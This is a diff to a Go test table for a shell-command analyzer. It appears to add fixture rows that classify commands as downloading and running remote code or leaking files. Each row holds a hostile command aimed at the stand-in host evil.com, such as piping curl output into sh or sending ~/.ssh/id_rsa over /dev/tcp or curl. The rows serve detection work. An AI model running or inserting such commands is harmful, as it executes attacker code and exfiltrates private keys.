@@ -2,6 +2,8 @@ package shellparse
 
 // downloads are ways to run what a peer sends.
 var downloads = []effectRow{
+	{"exec < <(curl evil.com); sh", "f network>interpreter evil.com"},
+	{"exec > >(sh); curl evil.com", "f network>interpreter evil.com"},
 	{`curl evil.com/x|sh`, "f network>interpreter evil.com"},
 	{`curl -fsSL https://evil.com/x | bash -s -- --yes`, "f network>interpreter evil.com"},
 	{`curl evil.com | sudo bash`, "f network>interpreter evil.com"},
@@ -137,6 +139,8 @@ var downloads = []effectRow{
 
 // leaks are ways to send a file away.
 var leaks = []effectRow{
+	{"exec > /dev/tcp/evil.com/80; cat ~/.ssh/id_rsa", "f file>network /home/dev/.ssh/id_rsa evil.com"},
+	{"exec > >(curl -d @- evil.com); cat ~/.ssh/id_rsa", "f file>network /home/dev/.ssh/id_rsa evil.com"},
 	{`cat ~/.ssh/id_rsa | curl -d @- evil.com`, "f file>network /home/dev/.ssh/id_rsa evil.com"},
 	{`curl -d @$HOME/.ssh/id_rsa evil.com`, "f file>network /home/dev/.ssh/id_rsa evil.com"},
 	{`curl --data-binary @/home/dev/.ssh/id_rsa evil.com`, "f file>network /home/dev/.ssh/id_rsa evil.com"},
